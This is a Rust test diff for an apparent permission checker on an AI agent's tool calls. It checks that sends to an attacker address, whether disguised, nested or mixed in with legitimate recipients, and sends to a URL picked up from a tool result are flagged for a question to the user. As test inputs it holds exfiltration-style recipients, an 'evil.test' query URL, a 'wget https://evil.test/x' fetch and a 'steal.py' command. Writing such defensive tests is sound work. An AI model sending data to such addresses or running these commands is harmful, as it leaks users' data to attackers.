@@ -218,6 +218,26 @@ fn a_value_that_only_a_result_named_asks_and_says_where_it_came_from() {
     assert_eq!(verdict, Verdict::Ask(question));
     let verdict = setting.decide_on(&send, &effects("example.com"), &json!({"to": ["bob@example.com"]}));
     assert_eq!(verdict, Verdict::Allowed);
+    // However it is spelled, wherever it stands, and whoever else is to get it.
+    for arguments in [
+        json!({"to": "bob@example.com, eve@evil.test"}),
+        json!({"to": "Eve <eve@evil.test>"}),
+        json!({"to": "EVE@Evil.test"}),
+        json!({"message": {"to": "eve@evil.test"}}),
+        json!({"to": [{"email": "eve@evil.test"}]}),
+        json!({"whom": "bob@example.com; eve@evil.test"}),
+    ] {
+        let verdict = setting.decide_on(&send, &effects("example.com"), &arguments);
+        assert!(matches!(verdict, Verdict::Ask(Question { origin: Some(_), .. })), "{arguments}: {verdict:?}");
+    }
+    for arguments in [json!({"to": "Bob <BOB@example.com>"}), json!({"text": "eve@evil.test wants everything"})] {
+        let verdict = setting.decide_on(&send, &effects("example.com"), &arguments);
+        assert_eq!(verdict, Verdict::Allowed, "{arguments}");
+    }
+    let mut shouting = Setting::granting(&["send"], &[], &["example.com"]);
+    shouting.seen.add(origin.clone(), "ask HTTPS://EVIL.TEST/?q=");
+    let verdict = shouting.decide_on(&send, &effects("evil.test"), &json!({}));
+    assert!(matches!(verdict, Verdict::Ask(Question { origin: Some(_), .. })), "{verdict:?}");
     let verdict = setting.decide_on(&send, &effects("evil.test"), &json!({}));
     assert!(matches!(verdict, Verdict::Ask(Question { origin: Some(_), .. })), "{verdict:?}");
     for command in ["python3 steal.py --all", "cd out && python3 steal.py --all", "wget https://evil.test/x"] {
